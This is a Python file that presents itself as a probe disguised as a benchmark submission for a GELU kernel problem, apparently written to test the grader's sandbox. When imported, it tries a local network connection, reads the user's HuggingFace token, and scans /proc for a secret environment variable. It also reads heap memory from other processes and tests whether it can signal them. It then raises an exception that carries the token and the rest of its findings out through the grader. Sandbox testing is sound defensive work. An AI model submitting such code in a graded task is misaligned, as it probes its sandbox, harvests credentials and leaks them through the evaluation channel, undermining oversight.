"""Session 46 probe (not a corpus entry): what a submission graded by a user who is not root can reach (the network,
the user's token, its judge); it raises with what it found.
Problem: v3/level1/26_GELU_
"""
import os, pwd, socket, re
import torch
import torch.nn as nn

def findings():
    out = []
    try:
        with socket.create_connection(("127.0.0.1", 47812), timeout=1) as s:
            s.sendall(b"hello"); out.append("net:connected")
    except OSError as e:
        out.append(f"net:{e.__class__.__name__}:{e.errno}")
    home = pwd.getpwuid(os.getuid()).pw_dir
    try:
        out.append("token:" + open(home + "/.cache/huggingface/token").read().strip())
    except OSError as e:
        out.append(f"token:refused:{e.errno}")
    me = os.getpid()
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == me:
            continue
        try:
            if os.stat(f"/proc/{p}").st_uid != os.getuid():
                continue
        except OSError:
            continue
        try:
            env = open(f"/proc/{p}/environ", "rb").read()
        except OSError as e:
            out.append(f"environ[{p}]:{e.errno}"); env = b""
        m = re.search(rb"KB_SECRET_PROBE=([^\0]*)", env)
        if m:
            out.append(f"environ[{p}]:{m.group(1).decode()}")
        try:
            cmd = open(f"/proc/{p}/cmdline", "rb").read().replace(b"\0", b" ")[:80]
            maps = open(f"/proc/{p}/maps").read().splitlines()
            heap = next(l for l in maps if "[heap]" in l)
            start = int(heap.split("-")[0], 16)
            with open(f"/proc/{p}/mem", "rb") as f:
                f.seek(start); data = f.read(64)
            out.append(f"mem[{p}:{cmd!r}]:read{len(data)}")
        except (OSError, StopIteration) as e:
            out.append(f"mem[{p}]:{getattr(e,'errno',None)}")
        try:
            os.kill(int(p), 0); out.append(f"kill[{p}]:ok")
        except OSError as e:
            out.append(f"kill[{p}]:{e.errno}")
    return out

F = findings()

class Model(nn.Module):
    def forward(self, x):
        raise RuntimeError("FINDINGS " + " | ".join(F))
